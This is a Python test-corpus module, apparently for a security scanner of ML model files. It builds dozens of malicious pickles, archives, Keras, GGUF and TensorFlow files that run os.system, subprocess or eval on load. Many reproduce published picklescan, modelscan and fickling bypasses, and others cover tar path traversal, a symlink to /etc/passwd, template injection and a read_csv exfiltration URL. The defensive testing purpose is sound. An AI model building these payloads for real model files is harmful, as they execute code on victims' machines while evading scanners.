        "https://jfrog.com/blog/unveiling-3-zero-day-vulnerabilities-in-picklescan/",
        _fn("os", "system", _SH, protocol=2),
        "os.system",
        ".bin",
    ),
    Payload(
        "picklescan_profile_module_run_ghsa_7wx9",
        _GH_PS + "GHSA-7wx9-6375-f5wh (module-level profile.run; Profile.run was blocked)",
        _fn("profile", "run", _PY),
        "profile.run",
    ),
    Payload(
        "picklescan_codeop_compile_command_ghsa_g38g",
        _GH_PS + "GHSA-g38g-8gr9-h9xp (stdlib modules missing from the blocklist: codeop)",
        _fn("codeop", "compile_command", _PY),
        "codeop.compile_command",
    ),
    Payload(
        "picklescan_pyrepl_pipe_pager_ghsa_g38g",
        _GH_PS + "GHSA-g38g-8gr9-h9xp (picklescan's GHSA-g38g-8gr9-h9xp-pyrepl-pager.pkl)",
        _fn("_pyrepl.pager", "pipe_pager", _lit(""), _SH),
        "_pyrepl.pager.pipe_pager",
    ),
    Payload(
        "picklescan_c_operator_methodcaller_ghsa_955r",
        _GH_PS + "GHSA-955r-x9j8-7rhh (_operator.methodcaller on builtins.__import__)",
        _c_operator_methodcaller,
        "_operator.methodcaller",
    ),
    Payload(
        "picklescan_c_operator_attrgetter_ghsa_46h3",
        _GH_PS + "GHSA-46h3-79wf-xr6c (_operator.attrgetter on builtins.__import__)",
        _c_operator_attrgetter,
        "_operator.attrgetter",
    ),
    # -- modelscan -----------------------------------------------------------------------------
    Payload(
        "modelscan_numpy_prod_build_setattr",
        "https://github.com/protectai/modelscan/issues/85",
        _numpy_prod_build,
        "build-on-global",
    ),
    Payload(
        "modelscan_numpy_builtins_build",
        "https://github.com/protectai/modelscan/issues/330",
        _numpy_builtins_build,
        "numpy.__builtins__",
    ),
    Payload(
        "modelscan_importlib_getattr_chain",
        "https://github.com/protectai/modelscan/issues/331",
        _importlib_getattr,
        "importlib.import_module",
    ),
    Payload(
        "modelscan_multiprocessing_spawnv_passfds",
        "https://github.com/protectai/modelscan/issues/338",
        _fn(
            "multiprocessing.util",
            "spawnv_passfds",
            _lit(b"/bin/sh"),
            lambda m: [b"/bin/sh", b"-c", shell(m).encode()],
            _lit(()),
        ),
        "multiprocessing.util.spawnv_passfds",
    ),
    Payload(
        "modelscan_mlflow_run_entry_point",
        "https://github.com/protectai/modelscan/issues/338 (mlflow's local backend runs a shell command)",
        _fn("mlflow.projects.backend.local", "_run_entry_point", _SH, _lit("."), _lit(""), _lit("")),
        "mlflow.projects.backend.local._run_entry_point",
    ),
    Payload(
        "modelscan_pandas_read_csv_exfiltration",
        "https://github.com/protectai/modelscan/issues/338 (pandas fetches a URL at load: exfiltration)",
        _fn("pandas.io.parsers.readers", "read_csv", lambda m: f"http://127.0.0.1:9/?leak={m.name}"),
        "pandas.io.parsers.readers.read_csv",
    ),
    Payload(
        "modelscan_nested_pickle_loads",
        "https://github.com/protectai/modelscan/issues/267",
        _nested_pickle_loads,
        "pickle.loads",
    ),
    # -- fickling ------------------------------------------------------------------------------
    Payload(
        "fickling_pty_spawn_obj", "https://github.com/trailofbits/fickling/pull/108", _obj_pty, "pty.spawn"
    ),
    Payload("fickling_pty_spawn_build", _GH_FK + "GHSA-r7v6-mfhq-g3m2", _pty_build, "pty.spawn"),
    Payload(
        "fickling_obj_call_popped_ghsa_mxhj",
        _GH_FK + "GHSA-mxhj-88fx-4pcv (an OBJ call whose result is popped vanished from the AST)",
        _obj_then_pop,
        "smtplib.SMTP",
    ),
    Payload(
        "fickling_reduce_then_build_ghsa_mhc9",
        _GH_FK + "GHSA-mhc9-48gj-9gp3 (REDUCE+BUILD on a stdlib call treated as safe: socketserver)",
        _reduce_then_build,
        "socketserver.TCPServer",
    ),
    Payload(
        "fickling_aix_support_read_cmd_output_ghsa_5hwf",
        _GH_FK + "GHSA-5hwf-rc88-82xm (uuid, _osx_support and _aix_support missing from UNSAFE_IMPORTS)",
        _fn("_aix_support", "_read_cmd_output", _SH),
        "_aix_support._read_cmd_output",
    ),
    Payload(
        "fickling_scanner_deactivation",
        "https://github.com/trailofbits/fickling/pull/249 (a pickle removes fickling's load hook first)",
        _scanner_deactivation,
        "fickling.hook.deactivate_safe_ml_environment",
    ),
    Payload(
        "pytorch_tensor_storage_offset_out_of_bounds",
        "https://github.com/pytorch/pytorch/pull/183381 (size, stride and offset unchecked on unpickling)",
        _tensor_offset_out_of_bounds,
        "tensor-out-of-bounds",
        suffix=".pt",
    ),
    Payload(
        "pytorch_qtensor_unchecked_stride",
        "https://github.com/pytorch/pytorch/issues/184652 (weights_only=True, torch 2.12.0)",
        _qtensor_stride_out_of_bounds,
        "tensor-out-of-bounds",
        suffix=".pt",
    ),
    Payload(
        "fickling_frame_boundary_binbytes_length",
        "https://github.com/python/cpython/issues/154848; https://github.com/trailofbits/fickling/pull/317",
        _frame_binbytes_length_straddle,
        "os.system",
    ),
    Payload(
        "fickling_frame_boundary_binunicode_data",
        "https://github.com/python/cpython/issues/154848; https://github.com/trailofbits/fickling/pull/317",
        _frame_binunicode_data_straddle,
        "os.system",
    ),
    Payload(
        "fickling_frame_opened_inside_frame",
        "https://github.com/trailofbits/fickling/pull/317 (a FRAME opening before the previous one closed)",
        _frame_inside_frame,
        "os.system",
    ),
    Payload(
        "fickling_marshal_functiontype",
        _GH_FK + "GHSA-565g-hwwr-4pp3",
        _marshal_functiontype,
        "marshal.loads",
    ),
    Payload(
        "fickling_runpy_run_path",
        _GH_FK + "GHSA-wfq2-52f7-7qvj",
        _fn("runpy", "run_path", lambda m: str(m.with_suffix(".py"))),
        "runpy.run_path",
    ),
    Payload(
        "fickling_cprofile_run", _GH_FK + "GHSA-p523-jq9w-64x9", _fn("cProfile", "run", _PY), "cProfile.run"
    ),
    Payload("fickling_ctypes_via_getattr", _GH_FK + "GHSA-q5qq-mvfm-j35x", _ctypes_getattr, "ctypes.CDLL"),
    Payload(
        "fickling_pydoc_locate",
        _GH_FK + "GHSA-5hvc-6wx8-mvv4",
        _fn("pydoc", "locate", _lit("os.system")),
        "pydoc.locate",
    ),
    Payload(
        "fickling_code_interactive_interpreter",
        _GH_FK + "GHSA-q5qq-mvfm-j35x",
        _code_interpreter,
        "code.InteractiveInterpreter",
    ),
    Payload(
        "fickling_builtins_import_getattr",
        _GH_FK + "GHSA-h4rm-mm56-xf63",
        _builtins_import_getattr,
        "builtins.__import__",
    ),
    Payload(
        "fickling_interpreters_run_string",
        _GH_FK + "GHSA-6ggj-6f2q-f7mx",
        _interpreters_build,
        "_interpreters.run_string",
    ),
]

# -- payloads through every opcode path and container ------------------------------------------


def _ext_code(m: Path) -> bytes:
    return proto(2) + b"\x82\x01" + MARK + u(shell(m)) + TUPLE + REDUCE + STOP


def _dynamic_stack_global(m: Path) -> bytes:
    # module name computed by a call: STACK_GLOBAL on a value the pickle built
    return (
        proto(4)
        + sglobal("builtins", "str")
        + u("os")
        + TUPLE1
        + REDUCE
        + u("system")
        + STACK_GLOBAL
        + u(shell(m))
        + TUPLE1
        + REDUCE
        + STOP
    )


def _long_memo(m: Path) -> bytes:
    return (
        proto(4)
        + u("os")
        + b"r"
        + struct.pack("<I", 70000)
        + POP
        + u("system")
        + b"r"
        + struct.pack("<I", 70001)
        + POP
        + b"j"
        + struct.pack("<I", 70000)
        + b"j"
        + struct.pack("<I", 70001)
        + STACK_GLOBAL
        + u(shell(m))
        + TUPLE1
        + REDUCE
        + STOP
    )


def _newobj(m: Path) -> bytes:
    return proto(2) + global0("subprocess", "Popen") + const((["/bin/sh", "-c", shell(m)],)) + NEWOBJ + STOP


def _newobj_ex(m: Path) -> bytes:
    return (
        proto(4)
        + sglobal("subprocess", "Popen")
        + const((["/bin/sh", "-c", shell(m)],))
        + EMPTY_DICT
        + NEWOBJ_EX
        + STOP
    )


def _setitem_on_global(m: Path) -> bytes:
    return proto(2) + global0("os", "environ") + u("LD_PRELOAD") + u(str(m)) + SETITEM + STOP


def _append_on_global(m: Path) -> bytes:
    return proto(2) + global0("sys", "path") + u(str(m.parent)) + APPEND + STOP


def _rebuild_from_type(m: Path) -> bytes:
    return (
        proto(2)
        + global0("torch._tensor", "_rebuild_from_type_v2")
        + MARK
        + global0("os", "system")
        + global0("torch", "Tensor")
        + const((shell(m),))
        + EMPTY_DICT
        + TUPLE
        + REDUCE
        + STOP
    )


def _py2_names(m: Path) -> bytes:
    return proto(2) + global0("__builtin__", "eval") + const((py(m),)) + REDUCE + STOP


def _unknown_persistent_id(m: Path) -> bytes:
    return proto(2) + u(shell(m)) + b"Q" + STOP


def _call_value_global(m: Path) -> bytes:
    # torch.FloatStorage is allowed as a value (in persistent ids), never as a callable
    return proto(2) + global0("torch", "FloatStorage") + const((10**9,)) + REDUCE + STOP


def _bytes_nested(m: Path) -> bytes:
    inner = call("os", "system", shell(m), protocol=4)
    return proto(4) + EMPTY_DICT + u("blob") + by(inner) + SETITEM + STOP


def _dup_memo_global(m: Path) -> bytes:
    return proto(2) + global0("os", "system") + DUP + POP + const((shell(m),)) + REDUCE + STOP


OPCODE_PATHS: list[Payload] = [
    Payload("global_reduce_protocol0", "GLOBAL + REDUCE", _fn("os", "system", _SH, protocol=0), "os.system"),
    Payload("global_reduce_protocol2", "GLOBAL + REDUCE", _fn("os", "system", _SH, protocol=2), "os.system"),
    Payload(
        "stack_global_reduce", "STACK_GLOBAL + REDUCE", _fn("os", "system", _SH, protocol=4), "os.system"
    ),
    Payload(
        "stack_global_protocol5",
        "STACK_GLOBAL + REDUCE",
        _fn("subprocess", "check_call", lambda m: ["/bin/sh", "-c", shell(m)], protocol=5),
        "subprocess.check_call",
    ),
    Payload("inst", "INST", _inst_exec, "builtins.exec"),
    Payload("obj", "OBJ", _obj_pty, "pty.spawn"),
    Payload("newobj", "NEWOBJ", _newobj, "subprocess.Popen"),
    Payload("newobj_ex", "NEWOBJ_EX", _newobj_ex, "subprocess.Popen"),
    Payload("build_on_global", "BUILD", _numpy_prod_build, "build-on-global"),
    Payload("memo_put_get", "PUT/GET", _ctf_safe_pickle, "os.system"),
    Payload("memo_binput_memoize", "BINPUT/MEMOIZE/BINGET", _memo_put_memoize_confusion, "os.system"),
    Payload("memo_long_binput", "LONG_BINPUT/LONG_BINGET", _long_memo, "os.system"),
    Payload("dup", "DUP", _dup_memo_global, "os.system"),
    Payload("extension_code", "EXT1", _ext_code, "extension-code"),
    Payload(
        "dynamic_stack_global", "STACK_GLOBAL on a computed value", _dynamic_stack_global, "dynamic-import"
    ),
    Payload("setitem_on_global", "SETITEM on an imported object", _setitem_on_global, "method-call"),
    Payload("append_on_global", "APPEND on an imported object", _append_on_global, "method-call"),
    Payload(
        "setitem_on_tensor",
        "SETITEM on an allowlisted non-dict object",
        _setitem_on_tensor,
        "method-call",
        suffix=".pt",
    ),
    Payload("rebuild_from_type_gadget", "allowlisted higher-order callable", _rebuild_from_type, "os.system"),
    Payload("python2_names", "protocol 2 __builtin__ mapping", _py2_names, "builtins.eval"),
    Payload("unknown_persistent_id", "BINPERSID", _unknown_persistent_id, "unknown-persistent-id"),
    Payload("call_value_only_global", "REDUCE on a value-only global", _call_value_global, "calls-value"),
    Payload("nested_pickle_in_bytes", "pickle inside a bytes constant", _bytes_nested, "os.system"),
]


def _zstd(data: bytes) -> bytes:
    import zstandard

    return zstandard.ZstdCompressor().compress(data)


def _lz4(data: bytes) -> bytes:
    import lz4.frame

    return lz4.frame.compress(data)


def _compressed(kind: str) -> Callable[[Path], bytes]:
    def build(m: Path) -> bytes:
        data = call("os", "system", shell(m))
        return {
            "gzip": gzip.compress,
            "bz2": bz2.compress,
            "xz": lzma.compress,
            "zlib": zlib.compress,
            "lzma": lambda d: lzma.compress(d, format=lzma.FORMAT_ALONE),
            "zstd": _zstd,
            "lz4": _lz4,
        }[kind](data)

    return build


def tar_of(members: dict[str, bytes], *, links: dict[str, tuple[str, bytes]] | None = None) -> bytes:
    """A plain tar; ``links`` maps a name to (kind, target) with kind ``sym`` or ``hard``."""
    import tarfile

    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tf:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
        for name, (kind, target) in (links or {}).items():
            info = tarfile.TarInfo(name)
            info.type = tarfile.SYMTYPE if kind == "sym" else tarfile.LNKTYPE
            info.linkname = target.decode()
            tf.addfile(info)
    return buf.getvalue()


def legacy_torch_tar(main: bytes, *, storage_numel: int = 4, view: tuple[int, int, int] = (4, 1, 0)) -> bytes:
    """``torch.save`` as it wrote before 0.4: sys_info, storages, tensors and pickle members.

    One FloatStorage (key 0) of ``storage_numel`` elements, one tensor (key 1) over it (size,
    stride, offset from ``view``), and ``main`` as the object pickle (persistent id 1 is the
    tensor; torch looks ids up as ``int(id)``).
    """
    p2 = lambda obj: pickle.dumps(obj, protocol=2)  # noqa: E731 - plain data pickles
    storage_header = proto(2) + MARK + const(0) + u("cpu") + global0("torch", "FloatStorage") + TUPLE + STOP
    storages = (
        p2(1) + storage_header + struct.pack("<q", storage_numel) + b"\0" * (4 * storage_numel) + p2([])
    )
    size, stride, offset = view
    tensor_header = proto(2) + MARK + const(1) + const(0) + global0("torch", "FloatTensor") + TUPLE + STOP
    tensors = p2(1) + tensor_header + struct.pack("<ii", 1, 0) + struct.pack("<qqq", size, stride, offset)
    sys_info = p2({"protocol_version": 1001, "little_endian": True, "type_sizes": {"int": 4}})
    return tar_of({"sys_info": sys_info, "storages": storages, "tensors": tensors, "pickle": main})


def _tar_pickle(m: Path) -> bytes:
    return tar_of({"model/weights.pkl": call("os", "system", shell(m))})


def _tar_symlink(m: Path) -> bytes:
    return tar_of({"weights.safetensors": b""}, links={"config.json": ("sym", b"/etc/passwd")})


def _tar_traversal(m: Path) -> bytes:
    return tar_of({"../../.bashrc": shell(m).encode() + b"\n"})


def _legacy_tar_payload(m: Path) -> bytes:
    return legacy_torch_tar(call("os", "system", shell(m), protocol=2))


def _legacy_tar_view_out_of_bounds(m: Path) -> bytes:
    return legacy_torch_tar(proto(2) + u("1") + b"Q" + STOP, view=(4, 2, 0))


def _mar(handler: bytes, weights: bytes) -> bytes:
    manifest = {
        "createdOn": "01/01/2026 00:00:00",
        "runtime": "python",
        "model": {
            "modelName": "m",
            "serializedFile": "model.pt",
            "handler": "handler.py",
            "modelVersion": "1.0",
        },
        "archiverVersion": "0.12.0",
    }
    return zip_of(
        {"MAR-INF/MANIFEST.json": json.dumps(manifest).encode(), "handler.py": handler, "model.pt": weights}
    )


def _mar_handler(m: Path) -> bytes:
    handler = f"import os\nos.system({shell(m)!r})\n".encode()
    return _mar(handler, torch_zip(pickle.dumps({"w": 1}, protocol=2)))


def _nemo_target(m: Path) -> bytes:
    config = b"target: nemo.collections.asr.models.EncDecCTCModel\n_target_: os.system\n"
    return tar_of(
        {"./model_config.yaml": config, "./model_weights.ckpt": torch_zip(pickle.dumps({}, protocol=2))}
    )


def _hf_auto_map(m: Path) -> bytes:
    config = {"model_type": "bert", "auto_map": {"AutoModel": "modeling_evil.EvilModel"}}
    return zip_of(
        {"model/config.json": json.dumps(config).encode(), "model/modeling_evil.py": b"import os\n"}
    )


def gguf_file(path: Path, template: str | None) -> Path:
    """A small GGUF model written by the ``gguf`` package (one tensor, optional chat template)."""
    import gguf
    import numpy as np

    w = gguf.GGUFWriter(str(path), "llama")
    w.add_name("tiny")
    if template is not None:
        w.add_chat_template(template)
    w.add_tensor("w", np.ones((4, 8), dtype=np.float32))
    w.write_header_to_file()
    w.write_kv_data_to_file()
    w.write_tensors_to_file()
    w.close()
    return path


def _gguf_template(template: str) -> Callable[[Path], bytes]:
    def build(m: Path) -> bytes:
        import tempfile

        with tempfile.TemporaryDirectory() as tmp:
            return gguf_file(Path(tmp) / "m.gguf", template.replace("MARKER", str(m))).read_bytes()

    return build


def _pb_varint(n: int) -> bytes:
    out = bytearray()
    while True:
        byte, n = n & 0x7F, n >> 7
        out.append(byte | (0x80 if n else 0))
        if not n:
            return bytes(out)


def _pb(field: int, value: bytes | int) -> bytes:
    """One protobuf field: a varint for ints, length-delimited for bytes."""
    if isinstance(value, int):
        return _pb_varint(field << 3) + _pb_varint(value)
    return _pb_varint(field << 3 | 2) + _pb_varint(len(value)) + value


def saved_model(graph_ops: list[str], function_ops: tuple[str, ...] | list[str] = ()) -> bytes:
    """A ``saved_model.pb``: one meta graph whose graph runs ``graph_ops`` and whose library has
    one function running ``function_ops`` (the layout TensorFlow writes, fields by number)."""
    nodes = b"".join(_pb(1, _pb(1, f"n{i}".encode()) + _pb(2, op.encode())) for i, op in enumerate(graph_ops))
    body = b"".join(
        _pb(3, _pb(1, f"f{i}".encode()) + _pb(2, op.encode())) for i, op in enumerate(function_ops)
    )
    library = _pb(2, _pb(1, _pb(1, _pb(1, b"__inference_call")) + body)) if function_ops else b""
    meta = _pb(1, _pb(1, b"serve")) + _pb(2, nodes + library)
    return _pb(1, 1) + _pb(2, meta)


_SAVED_MODEL_BENIGN = ["Placeholder", "VarHandleOp", "ReadVariableOp", "MatMul", "SaveV2", "RestoreV2"]


def _savedmodel_readfile(m: Path) -> bytes:
    return saved_model(_SAVED_MODEL_BENIGN + ["Const", "ReadFile", "Identity"])


def _savedmodel_pyfunc(m: Path) -> bytes:
    return zip_of({"model/saved_model.pb": saved_model(_SAVED_MODEL_BENIGN, ["Const", "EagerPyFunc"])})


def keras_h5(layers: list[dict[str, Any]]) -> bytes:
    """A legacy Keras 2 ``.h5``: ``model_config`` as a root attribute, one weights group."""
    import tempfile

    import h5py
    import numpy as np

    config = {"class_name": "Sequential", "config": {"name": "seq", "layers": layers}}
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "m.h5"
        with h5py.File(path, "w") as h5:
            h5.attrs["model_config"] = json.dumps(config).encode()
            h5.attrs["keras_version"] = b"2.15.0"
            h5.create_group("model_weights").create_dataset("dense/kernel", data=np.ones((3, 2), "float32"))
        return path.read_bytes()


_DENSE = {"class_name": "Dense", "config": {"name": "dense", "units": 2, "activation": "relu"}}


def _h5_lambda_bytecode(m: Path) -> bytes:
    import base64
    import marshal

    code = compile(py(m), "<lambda>", "exec")
    blob = base64.b64encode(marshal.dumps(code)).decode()
    lam = {
        "class_name": "Lambda",
        "config": {"name": "evil", "function": [blob, None, None], "function_type": "lambda"},
    }
    return keras_h5([_DENSE, lam])


def _h5_lambda_module_function(m: Path) -> bytes:
    lam = {
        "class_name": "Lambda",
        "config": {"name": "evil", "function": "system", "module": "os", "function_type": "function"},
    }
    return keras_h5([_DENSE, lam])


def _npy_bytes() -> bytes:
    import numpy as np

    buf = io.BytesIO()
    np.save(buf, np.arange(6.0))
    return buf.getvalue()


def sevenzip_of(members: dict[str, bytes]) -> bytes:
    import py7zr

    buf = io.BytesIO()
    with py7zr.SevenZipFile(buf, "w") as z:
        for name, data in members.items():
            z.writestr(data, name)
    return buf.getvalue()


def _7z_pickle(m: Path) -> bytes:
    return sevenzip_of({"weights/model.pt": torch_zip(call("os", "system", shell(m), protocol=2))})


def _nested_zip(m: Path) -> bytes:
    inner = torch_zip(call("os", "system", shell(m), protocol=2))
    return zip_of({"models/inner.pt": inner})


def _gzip_of_zip(m: Path) -> bytes:
    return gzip.compress(torch_zip(call("os", "system", shell(m), protocol=2)))


def _unusual_names(name: str) -> Callable[[Path], bytes]:
    def build(m: Path) -> bytes:
        return zip_of({"README.md": b"hello", name: call("os", "system", shell(m))})

    return build


def _hidden_storage_pickle(m: Path) -> bytes:
    # a pickle hidden under data/ but not referenced as a storage
    return torch_zip(
        pickle.dumps({"w": 1}, protocol=2), extra={"archive/data/999": call("os", "system", shell(m))}
    )


def _duplicate_members(m: Path) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("archive/data.pkl", pickle.dumps({"w": 1}, protocol=2))
        import warnings

        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            zf.writestr("archive/data.pkl", call("os", "system", shell(m), protocol=2))
    return buf.getvalue()


def _npz_object(m: Path) -> bytes:
    return zip_of({"x.npy": npy_object(call("os", "system", shell(m), protocol=3))})


def _joblib_object(m: Path) -> bytes:
    import joblib
    import numpy as np

    class _Obj:
        def __reduce__(self) -> Any:
            return (os.system, (shell(m),))  # pickled by reference, never called

    buf = io.BytesIO()
    joblib.dump({"a": np.arange(10), "o": np.array([_Obj()], dtype=object)}, buf)
    return buf.getvalue()


def _keras_lambda(m: Path) -> bytes:
    config = {
        "module": "keras",
        "class_name": "Sequential",
        "config": {
            "layers": [
                {"module": "keras.layers", "class_name": "Dense", "config": {"name": "d", "units": 2}},
                {
                    "module": "keras.layers",
                    "class_name": "Lambda",
                    "config": {
                        "name": "evil",
                        "function": {"class_name": "__lambda__", "config": {"code": py(m)}},
                    },
                },
            ]
        },
    }
    return zip_of(
        {
            "config.json": json.dumps(config).encode(),
            "metadata.json": b"{}",
            "model.weights.h5": b"\x89HDF\r\n\x1a\n",
        }
    )


def _keras_custom_module(m: Path) -> bytes:
    config = {"module": "evil_pkg.layers", "class_name": "Backdoor", "config": {"path": str(m)}}
    return zip_of({"config.json": json.dumps(config).encode(), "metadata.json": b"{}"})


def _keras_config(layer: dict[str, Any]) -> Callable[[Path], bytes]:
    def build(m: Path) -> bytes:
        config = {
            "module": "keras",
            "class_name": "Sequential",
            "config": {"layers": [layer | {"_marker": str(m)}]},
        }
        return zip_of({"config.json": json.dumps(config).encode(), "metadata.json": b"{}"})

    return build


CONTAINERS: list[Payload] = [
    *(
        Payload(f"compressed_{k}", k, _compressed(k), "os.system", ".joblib")
        for k in ("gzip", "bz2", "xz", "zlib", "lzma", "zstd", "lz4")
    ),
    Payload("zip_in_zip", "nested zip", _nested_zip, "os.system", ".zip"),
    Payload("sevenzip_member_checkpoint", "7z archive member", _7z_pickle, "os.system", ".7z"),
    Payload(
        "keras_h5_lambda_marshal",
        "legacy Keras .h5, Lambda layer with marshalled bytecode (Keras 2 Lambda serialisation)",
        _h5_lambda_bytecode,
        "keras-lambda",
        ".h5",
    ),
    Payload(
        "keras_h5_lambda_module_function",
        "legacy Keras .h5, Lambda layer naming module os, function system",
        _h5_lambda_module_function,
        "keras-lambda",
        ".h5",
    ),
    Payload(
        "tf_savedmodel_readfile",
        "SavedModel graph op ReadFile",
        _savedmodel_readfile,
        "tf.raw_ops.ReadFile",
        ".pb",
    ),
    Payload(
        "tf_savedmodel_pyfunc_in_function",
        "SavedModel library function op EagerPyFunc (in a zip)",
        _savedmodel_pyfunc,
        "tf.raw_ops.EagerPyFunc",
        ".zip",
    ),
    Payload(
        "gguf_chat_template_ssti_cve_2024_34359",
        "https://nvd.nist.gov/vuln/detail/CVE-2024-34359 (llama-cpp-python: chat templates unsandboxed)",
        _gguf_template("{{ cycler.__init__.__globals__.os.popen('touch MARKER').read() }}"),
        "template-injection",
        ".gguf",
    ),
    Payload(
        "gguf_chat_template_attr_filter",
        "CVE-2024-34359 variant: the attribute name assembled at render time",
        _gguf_template("{{ (cycler|attr('__in' ~ 'it__')) }}"),
        "template-injection",
        ".gguf",
    ),
    Payload("tar_member_pickle", "tar archive member", _tar_pickle, "os.system", ".tar"),
    Payload("tar_symlink", "tar member that is a symlink", _tar_symlink, "archive-link", ".tar"),
    Payload("tar_path_traversal", "tar member named ../..", _tar_traversal, "member-path", ".tar"),
    Payload(
        "torch_legacy_tar_pickle", "torch.save before 0.4 (tar)", _legacy_tar_payload, "os.system", ".pt"
    ),
    Payload(
        "torch_legacy_tar_view_out_of_bounds",
        "torch.save before 0.4 (tar), a tensor past its storage",
        _legacy_tar_view_out_of_bounds,
        "tensor-out-of-bounds",
        ".pt",
    ),
    Payload("torchserve_mar_handler", "TorchServe .mar handler.py", _mar_handler, "archive-code", ".mar"),
    Payload(
        "nemo_config_target", "NeMo model_config.yaml _target_", _nemo_target, "config-import-target", ".nemo"
    ),
    Payload("hf_auto_map", "Hugging Face config.json auto_map", _hf_auto_map, "remote-code-config", ".zip"),
    Payload("zip_in_gzip", "gzip of a torch zip", _gzip_of_zip, "os.system", ".pt.gz"),
    Payload(
        "member_name_traversal", "zip member ../../", _unusual_names("../../evil.pkl"), "os.system", ".zip"
    ),
    Payload(
        "member_name_unicode",
        "zip member with non-ASCII name",
        _unusual_names("модель/ü.bin"),
        "os.system",
        ".zip",
    ),
    Payload(
        "member_name_no_extension",
        "zip member without extension",
        _unusual_names("weights"),
        "os.system",
        ".zip",
    ),
    Payload(
        "member_name_deep_dir",
        "zip member deep in folders",
        _unusual_names("a/b/c/d/e/f.npy.tmp"),
        "os.system",
        ".zip",
    ),
    Payload(
        "hidden_pickle_under_data", "unreferenced pickle in data/", _hidden_storage_pickle, "os.system", ".pt"
    ),
    Payload("duplicate_member_names", "two members named data.pkl", _duplicate_members, "os.system", ".pt"),
    Payload("npz_object_array", "object array in .npz", _npz_object, "os.system", ".npz"),
    Payload(
        "npy_object_array",
        "object array in .npy",
        lambda m: npy_object(call("os", "system", shell(m), protocol=3)),
        "os.system",
        ".npy",
    ),
    Payload(
        "joblib_object_array",
        "joblib object array",
        _joblib_object,
        f"{os.system.__module__}.system",
        ".joblib",
    ),
    Payload(
        "keras_lambda_layer", "Keras .keras with a Lambda layer", _keras_lambda, "keras-lambda", ".keras"
    ),
    Payload(
        "keras_custom_module",
        "Keras config importing a custom module",
        _keras_custom_module,
        "keras-custom-object",
        ".keras",
    ),
    # Keras safe_mode bypasses: configs that call utility functions or load SavedModels.
    Payload(
        "keras_get_file_cve_2025_8747",
        "https://aithreatalert.com/cve/CVE-2025-8747 (GHSA-c9rc-mg46-23w3)",
        _keras_config({"module": "keras.utils", "class_name": "get_file", "config": {"origin": "file:///x"}}),
        "keras-function-call",
        ".keras",
    ),
    Payload(
        "keras_enable_unsafe_cve_2025_1550",
        "https://jfrog.com/blog/keras-safe_mode-bypass-vulnerability",
        _keras_config(
            {"module": "keras.config", "class_name": "enable_unsafe_deserialization", "config": {}}
        ),
        "keras-function-call",
        ".keras",
    ),
    Payload(
        "keras_tfsmlayer_cve_2026_1462",
        "https://justappsec.com/news/2026-04-keras-safe-mode-bypass",
        _keras_config(
            {"module": "keras.layers", "class_name": "TFSMLayer", "config": {"filepath": "/tmp/sm"}}
        ),
        "keras-savedmodel-layer",
        ".keras",
    ),
    Payload(
        "spoofed_safetensors_extension",
        "pickle named .safetensors",
        _fn("os", "system", _SH),
        "os.system",
        ".safetensors",
    ),
    Payload(
        "spoofed_onnx_extension",
        "pickle named .onnx",
        _fn("os", "system", _SH, protocol=0),
        "os.system",
        ".onnx",
    ),
    Payload(
        "spoofed_json_extension",
        "pickle named .json",
        _fn("os", "system", _SH, protocol=2),
        "os.system",
        ".json",
    ),
]

# Formats beside pickles (TFLite, Flax msgpack, PMML, OpenVINO, Core ML, Paddle, skops...) and the
# published techniques found with them; their builders live in corpus_formats.
from tests.scan.corpus_formats import FORMAT_CASES  # noqa: E402

FORMAT_PAYLOADS: list[Payload] = [Payload(*case) for case in FORMAT_CASES]

ALL_MALICIOUS: list[Payload] = BYPASSES + OPCODE_PATHS + CONTAINERS + FORMAT_PAYLOADS


def write_payload(payload: Payload, folder: Path, marker: Path) -> Path:
    path = folder / f"{payload.name}{payload.suffix}"
    path.write_bytes(payload.build(marker))
    return path


# -- benign files from real torch.save calls ----------------------------------------------------


def benign_files(folder: Path) -> list[Path]:
    """Real checkpoints and data files that must scan safe."""
    import numpy as np
    import torch
    from safetensors.torch import save_file

    folder.mkdir(parents=True, exist_ok=True)
    torch.manual_seed(0)
    net = torch.nn.Sequential(
        torch.nn.Conv2d(1, 4, 3),
        torch.nn.BatchNorm2d(4),
        torch.nn.ReLU(),
        torch.nn.Flatten(),
        torch.nn.Linear(4 * 6 * 6, 3),
    )
    opt_adam = torch.optim.AdamW(net.parameters(), lr=1e-3)
    opt_sgd = torch.optim.SGD(net.parameters(), lr=0.1, momentum=0.9)
    loss = net(torch.rand(2, 1, 8, 8)).sum()
    loss.backward()
    opt_adam.step()
    opt_sgd.step()
    sched = torch.optim.lr_scheduler.StepLR(opt_sgd, step_size=3)
    dtypes = [
        "float32",
        "float64",
        "float16",
        "bfloat16",
        "int8",
        "int16",
        "int32",
        "int64",
        "uint8",
        "bool",
        "complex64",
        "complex128",
        "uint16",
        "uint32",
        "uint64",
        "float8_e4m3fn",
        "float8_e5m2",
    ]
    all_dtypes = {name: torch.zeros(3, dtype=getattr(torch, name)) for name in dtypes}
    base = torch.arange(12.0)
    out: list[Path] = []

    def save(name: str, obj: Any, **kwargs: Any) -> None:
        path = folder / name
        torch.save(obj, path, **kwargs)
        out.append(path)

    save("state_dict.pt", net.state_dict())
    save("state_dict_proto4.pth", net.state_dict(), pickle_protocol=4)
    save("state_dict_legacy.pt", net.state_dict(), _use_new_zipfile_serialization=False)
    save("optimizer_adamw.pt", opt_adam.state_dict())
    save("optimizer_sgd_momentum.pt", opt_sgd.state_dict())
    save(
        "training_checkpoint.ckpt",
        {
            "epoch": 7,
            "global_step": 1234,
            "model": net.state_dict(),
            "optimizer": opt_adam.state_dict(),
            "scheduler": sched.state_dict(),
            "best_metric": 0.913,
            "config": {"lr": 1e-3, "layers": [1, 4, 3], "name": "cnn", "augment": True, "notes": None},
            "rng": torch.get_rng_state(),
            "numpy_array": np.arange(5, dtype=np.float32),
            "numpy_scalar": np.float64(2.5),
            "device": torch.device("cpu"),
            "dtype": torch.float16,
            "shape": torch.Size([2, 3]),
            "tags": {"a", "b"},
            "blob": b"\x00\x01 raw bytes",
        },
    )
    save("all_dtypes.pt", all_dtypes)
    save(
        "all_dtypes_legacy.pt",
        {k: v for k, v in all_dtypes.items() if not k.startswith(("uint16", "uint32", "uint64", "float8"))},
        _use_new_zipfile_serialization=False,
    )
    save(
